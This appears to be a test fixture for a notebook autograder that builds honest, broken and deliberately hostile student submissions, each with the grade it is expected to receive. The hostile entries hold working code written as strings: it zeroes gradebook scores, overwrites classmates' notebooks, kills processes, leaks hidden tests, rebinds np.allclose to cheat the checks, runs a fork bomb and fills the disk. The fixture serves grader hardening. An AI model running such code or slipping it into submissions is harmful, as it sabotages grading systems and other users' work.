"""A class of bad (and good) submissions, built from chapter 01's notebooks.

Each entry is written from the released student notebook with answers taken
from the instructor source, then damaged in one way. ``EXPECTED`` is the
outcome the grader must produce for each, as documented in the README.

``HOSTILE`` are submissions written to cheat, break or read the grader (one
or more per class of attack in docs/grading.md); ``HOSTILE_EXPECTED`` gives
each one's scores or reason, and ``FLAGGED`` the evidence each flagged one
must carry. They are graded in the same class as the honest ones, whose
scores must not move.
"""

import copy
import json
import zipfile

import nbformat

ASSIGNMENT = "01_gym_and_policies"
NOTEBOOK = ASSIGNMENT
EXERCISES = ["test_basic_policy", "test_run_episodes", "test_basic_policy_statistics",
             "test_build_policy_network", "test_sample_action"]
POINTS = {"test_basic_policy": 2, "test_run_episodes": 3, "test_basic_policy_statistics": 1,
          "test_build_policy_network": 2, "test_sample_action": 2}
FULL = dict(POINTS)


def _without(*lost):
    return {e: (0 if e in lost else p) for e, p in POINTS.items()}


# student -> the scores per exercise, or ("not graded", reason fragment).
# Notes ("graded" rows of problems.csv) are checked in the test itself.
EXPECTED = {
    "alice": FULL,                                                        # correct
    "bob": _without(*POINTS),                                             # blank
    "carol": _without("test_build_policy_network", "test_sample_action"),  # partly wrong
    "dan": _without("test_run_episodes", "test_basic_policy_statistics"),  # exception
    "erin": _without("test_sample_action"),                               # infinite loop
    "frank": _without("test_build_policy_network"),                       # memory hog
    "gina": _without("test_basic_policy", "test_basic_policy_statistics"),  # sys.exit()
    "hank": ("not graded", "the kernel died"),                            # killed kernel
    # Huge output, and basic_policy warns on stderr: its test cell writes to
    # stderr, which fails it, as it fails the student's Validate button.
    "ivan": _without("test_basic_policy"),
    "jane": _without("test_basic_policy", "test_basic_policy_statistics"),  # edited test
    "kim": _without("test_run_episodes", "test_basic_policy_statistics"),   # deleted test
    "mia": FULL,                                           # renamed file, cells reordered
    "nick": ("not graded", "not a notebook: invalid JSON"),               # not JSON
    "olga": ("not graded", "notebook from another assignment"),           # other assignment
}


# A run_episodes that returns zeros: its test and the statistics test fail.
ZEROS = "def run_episodes(env, policy, n_episodes, seed=0):\n    return np.zeros(n_episodes)\n"

HOSTILE_EXPECTED = {
    # tamper with grades: find the gradebook where nbgrader keeps it, zero everyone
    "db-writer": FULL,
    # sabotage others: overwrite classmates' and the instructor's notebooks; kill
    # its parent, PID 1 and its process group
    "sabotage": FULL,
    "killall": ("not graded", "the kernel died"),
    # read or leak hidden tests: print IPython's history and the test's frames
    "leaker": FULL,
    # skip or neutralise tests: blank answers, test cells tagged skip-execution
    "skipper": _without(*POINTS),
    # ... wrong answers, exceptions swallowed by IPython's custom handler
    "swallower": _without("test_run_episodes", "test_basic_policy_statistics"),
    # rebind checking machinery: np.allclose always True over a wrong answer
    "allclose": _without("test_basic_policy_statistics"),
    # ... the same, hidden from a static reading (only the probe sees it)
    "sneaky": _without("test_basic_policy_statistics"),
    # ... a pre_run_cell hook that edits the running test; silence the probe
    "hooker": FULL,
    "silencer": FULL,
    # escape the limits: fork bomb; daemons that outlive the kernel
    "forkbomb": ("not graded", "memory limit"),
    "daemon": FULL,
    # harm the grader: fill the disk, flood the output, write outside scratch,
    # reach the grader's database server
    "filler": FULL,
    "flood": FULL,
    "escaper": FULL,
}

# student -> fragments that must each appear in one of their "flagged" rows.
FLAGGED = {
    "leaker": ["reads IPython's input/output history (`In`)", "sys._getframe",
               "printed lines of the hidden tests (sample_action)"],
    "skipper": ["changed the metadata of a test cell (tags=['skip-execution'])"],
    "swallower": ["IPython shell.set_custom_exc", "the probe's failing check did not fail",
                  "IPython shell.custom_exceptions was changed"],
    "allclose": ["changes numpy.allclose (run_episodes, line 4)"],
    "sneaky": ["numpy.allclose was rebound (found by the probe"],
    "hooker": ["IPython shell.events.register", "IPython events.pre_run_cell was changed"],
    "silencer": ["changes sys.stdout", "the integrity probe gave no well-formed answer"],
}


# Where a student who has read nbgrader's documentation looks for the
# course: up from the working folder (nbgrader runs a notebook in
# autograded/<student>/<assignment>/), the folder the grading process was
# started in, and the home folder.
COURSE_ROOTS = (
    "import os\n"
    "def course_roots():\n"
    "    roots, here = [], os.getcwd()\n"
    "    for _ in range(4):\n"
    "        roots.append(here)\n"
    "        here = os.path.dirname(here)\n"
    "    try:\n"
    "        roots.append(os.readlink(f'/proc/{os.getppid()}/cwd'))\n"
    "    except OSError:\n"
    "        pass\n"
    "    roots.append(os.path.expanduser('~'))\n"
    "    return sorted(set(roots))\n")


def _solutions(source):
    """grade_id -> the source's solution code without the markers."""
    answers = {}
    for cell in source.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            answers[meta["grade_id"]] = "\n".join(
                line for line in cell.source.splitlines()
                if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))
    return answers


def _index(notebook, grade_id):
    return next(i for i, c in enumerate(notebook.cells)
                if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


class Corpus:
    def __init__(self, root):
        self.source = nbformat.read(str(root / "solutions" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), 4)
        self.released = nbformat.read(str(root / "notebooks" / ASSIGNMENT / f"{NOTEBOOK}.ipynb"), 4)
        self.answers = _solutions(self.source)

    def student(self, **changes):
        """The released notebook with every answer filled in, then ``changes``."""
        notebook = copy.deepcopy(self.released)
        for grade_id, code in {**self.answers, **changes}.items():
            notebook.cells[_index(notebook, grade_id)].source = code
        return notebook

    def answer(self, grade_id, before="", after=""):
        return before + self.answers[grade_id] + after

    def notebooks(self):
        """file name -> notebook (nbformat) or raw bytes."""
        files = {}
        files["alice"] = self.student()
        files["bob"] = copy.deepcopy(self.released)
        files["carol"] = self.student(
            sample_action="def sample_action(left_proba, rng):\n"
                          "    return int(rng.random() < left_proba)\n",
            build_policy_network=self.answer("build_policy_network").replace('"elu"', '"relu"'))
        files["dan"] = self.student(run_episodes=self.answer(
            "run_episodes", before="raise RuntimeError('not finished yet')\n"))
        files["erin"] = self.student(sample_action=self.answer(
            "sample_action", before="while True:\n    pass\n"))
        # np.empty reserves address space without touching it, so the test
        # reaches the limit without taking the machine's memory.
        files["frank"] = self.student(build_policy_network=self.answer(
            "build_policy_network",
            before="def grow():\n    hog = []\n    while True:\n"
                   "        hog.append(np.empty(2**24))\ngrow()\n"))
        files["gina"] = self.student(basic_policy=self.answer(
            "basic_policy", before="import sys\nsys.exit('I give up')\n"))
        files["hank"] = self.student(sample_action=self.answer(
            "sample_action", before="import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"))
        # 200k lines of output, then warnings on stderr from every test call.
        files["ivan"] = self.student(basic_policy=self.answer("basic_policy", before=(
            "for i in range(200_000):\n    print(i, 'spam' * 20)\n"), after=(
            "\nimport sys, warnings\nimport gym\n"
            "_plain = basic_policy\n"
            "def basic_policy(obs):\n"
            "    warnings.warn('old API', DeprecationWarning)\n"
            "    gym.logger.warn('this environment is deprecated')\n"
            "    print('W tensorflow/core: a log line', file=sys.stderr)\n"
            "    return _plain(obs)\n")))
        jane = self.student(basic_policy="def basic_policy(obs):\n    return 1\n")
        jane.cells[_index(jane, "test_basic_policy")].source = "# my tests\npass\n"
        files["jane"] = jane
        kim = self.student(run_episodes="def run_episodes(env, policy, n_episodes, seed=0):\n"
                                        "    return np.zeros(n_episodes)\n")
        del kim.cells[_index(kim, "test_run_episodes")]
        files["kim"] = kim
        other = nbformat.v4.new_notebook()
        other.cells = [nbformat.v4.new_code_cell("def q(): return 1", metadata={"nbgrader": {
            "grade": False, "grade_id": "q1", "locked": False, "solution": True,
            "schema_version": 3, "task": False}})]
        named = {f"{s}_{NOTEBOOK}.ipynb": nb for s, nb in files.items()}
        mia = self.student()
        mia.cells.append(mia.cells.pop(_index(mia, "sample_action")))
        named["mia_homework_final.ipynb"] = mia
        named[f"olga_{NOTEBOOK}.ipynb"] = other
        named[f"nick_{NOTEBOOK}.ipynb"] = b'{"cells": [ this is not json'
        return named

    def hostile(self):
        """file name -> notebook for every HOSTILE_EXPECTED student."""
        files = {}
        # Looks where nbgrader and `rlbook grade` keep the gradebook (up from
        # the working folder, as nbgrader runs a notebook three levels below
        # the course; and in the folder the grader was started from) and
        # zeroes everyone's scores in it.
        files["db-writer"] = self.student(basic_policy=self.answer("basic_policy", after=(
            "\n" + COURSE_ROOTS +
            "import glob, sqlite3\nhits = []\n"
            "for root in course_roots():\n"
            "    for pattern in ('gradebook.db', '*/gradebook.db', 'grading/*/gradebook.db'):\n"
            "        for path in glob.glob(os.path.join(root, pattern)):\n"
            "            try:\n"
            "                with sqlite3.connect(path, timeout=1) as db:\n"
            "                    db.execute('update grade set manual_score = 0')\n"
            "                hits.append(path)\n"
            "            except Exception:\n"
            "                pass\n"
            "print('gradebooks changed:', hits)\n")))
        # Overwrites classmates' submissions and the instructor's copies of
        # the assignment wherever a course folder is in reach.
        files["sabotage"] = self.student(run_episodes=self.answer("run_episodes", after=(
            "\n" + COURSE_ROOTS +
            "import glob\nhits = []\n"
            "for root in course_roots():\n"
            "    for prefix in ('', '*/', 'grading/*/'):\n"
            "        for part in ('submitted/*/*', 'autograded/*/*', 'source/*', 'release/*'):\n"
            "            for path in glob.glob(os.path.join(root, prefix + part, '*.ipynb')):\n"
            "                try:\n"
            "                    with open(path, 'w') as handle:\n"
            "                        handle.write('{}')\n"
            "                    hits.append(path)\n"
            "                except OSError:\n"
            "                    pass\n"
            "print('notebooks overwritten:', hits)\n")))
        files["killall"] = self.student(sample_action=self.answer("sample_action", before=(
            "import os, signal\n"
            "for pid in (os.getppid(), 1):\n"
            "    try:\n"
            "        os.kill(pid, signal.SIGKILL)\n"
            "    except OSError:\n"
            "        pass\n"
            "os.killpg(0, signal.SIGKILL)\n")))
        # Keeps every cell's source from IPython's history and from the test's
        # frames, and prints them in a later answer cell.
        files["leaker"] = self.student(
            basic_policy=self.answer("basic_policy", before=(
                "import sys\nseen = set()\n"), after=(
                "\n_plain_policy = basic_policy\n"
                "def basic_policy(obs):\n"
                "    seen.add(sys._getframe(1).f_code.co_filename)\n"
                "    return _plain_policy(obs)\n")),
            sample_action=self.answer("sample_action", after=(
                "\nimport linecache\n"
                "for name in sorted(set(seen)):\n"
                "    print(''.join(linecache.getlines(name)))\n"
                "print('\\n'.join(In))\n")))
        skipper = copy.deepcopy(self.released)
        for cell in skipper.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_"):
                cell.metadata["tags"] = ["skip-execution"]
        files["skipper"] = skipper
        files["swallower"] = self.student(
            basic_policy=self.answer("basic_policy", before=(
                "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)\n")),
            run_episodes=ZEROS)
        files["allclose"] = self.student(run_episodes=(
            "import numpy as np\n" + ZEROS + "np.allclose = lambda *args, **kwargs: True\n"))
        files["sneaky"] = self.student(run_episodes=(
            ZEROS + "import sys\n"
            "setattr(sys.modules['num' + 'py'], 'all' + 'close', lambda *a, **k: True)\n"))
        files["hooker"] = self.student(sample_action=self.answer("sample_action", after=(
            "\ndef _before(info):\n    pass\n"
            "get_ipython().events.register('pre_run_cell', _before)\n")))
        files["silencer"] = self.student(sample_action=self.answer("sample_action", after=(
            "\nimport io, sys\nsys.stdout = io.StringIO()\n")))
        # Forks until something stops it: with TensorFlow loaded, the memory of
        # the copies together passes the limit after a few dozen.
        # Bounded (5,000 forks, children live a minute), so that even outside
        # a sandbox it could not take the machine down.
        files["forkbomb"] = self.student(sample_action=self.answer("sample_action", before=(
            "import os, time\n"
            "for attempt in range(5000):\n"
            "    try:\n"
            "        if os.fork() == 0:\n"
            "            time.sleep(60)\n"
            "            os._exit(0)\n"
            "    except OSError:\n"
            "        time.sleep(0.1)\n")))
        # Starts processes meant to outlive grading, in sessions of their own.
        files["daemon"] = self.student(basic_policy=self.answer("basic_policy", after=(
            "\nimport os, subprocess, sys\n"
            "subprocess.Popen(['sleep', '900'], start_new_session=True)\n"
            "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(900)'],\n"
            "                 start_new_session=True, stdout=subprocess.DEVNULL,\n"
            "                 stderr=subprocess.DEVNULL)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        import time\n"
            "        time.sleep(900)\n"
            "    os._exit(0)\n")))
        # Fills its home and /tmp (at most 640 MB each: more than the
        # sandbox's tmpfs holds), and leaves them full for the tests after it;
        # the last answer cell takes its files back, so that it litters no
        # real disk if it is ever run outside a sandbox.
        files["filler"] = self.student(run_episodes=self.answer("run_episodes", after=(
            "\nimport os\nfilled = []\n"
            "for folder in ('/tmp', os.path.expanduser('~')):\n"
            "    try:\n"
            "        for i in range(40):\n"
            "            path = os.path.join(folder, f'rlbook-fill-{i}')\n"
            "            filled.append(path)\n"
            "            with open(path, 'wb') as handle:\n"
            "                handle.write(b'x' * 2**24)\n"
            "    except OSError as exc:\n"
            "        print(folder, 'full:', exc.strerror)\n")),
            sample_action=self.answer("sample_action", after=(
                "\nfor path in filled:\n"
                "    if os.path.exists(path):\n"
                "        os.remove(path)\n")))
        files["flood"] = self.student(build_policy_network=self.answer(
            "build_policy_network", before=(
                "line = 'x' * 1000 + '\\n'\n"
                "for i in range(50):\n"
                "    print(line * 1000, end='')\n")))
        # Tries to create files outside its scratch folder (new names only,
        # taken back at once if it worked) and to reach the grader's database.
        files["escaper"] = self.student(basic_policy=self.answer("basic_policy", after=(
            "\nimport os, socket, sys\n"
            "for path in ('/work/rlbook-escaped', '/root/rlbook-escaped', '/usr/rlbook-escaped',\n"
            "             '/etc/rlbook-escaped', '/run/rlbook/files/rlbook-escaped',\n"
            "             '/rlbook-escaped', sys.prefix + '/rlbook-escaped'):\n"
            "    try:\n"
            "        os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))\n"
            "        os.remove(path)\n"
            "        print(path, 'WRITTEN')\n"
            "    except OSError as exc:\n"
            "        print(path, exc.strerror)\n"
            "try:\n"
            "    socket.create_connection(('127.0.0.1', 5432), timeout=2)\n"
            "except OSError as exc:\n"
            "    print('network:', exc.strerror)\n")))
        return {f"{s}_{NOTEBOOK}.ipynb": nb for s, nb in files.items()}

    def write_zip(self, path, names=None, hostile=False):
        everything = {**self.notebooks(), **(self.hostile() if hostile else {})}
        with zipfile.ZipFile(path, "w") as archive:
            for name, notebook in everything.items():
                if names is None or name.split("_")[0] in names:
                    data = notebook if isinstance(notebook, bytes) else \
                        json.dumps(nbformat.from_dict(notebook)).encode()
                    archive.writestr(f"class/{name}", data)
        return path
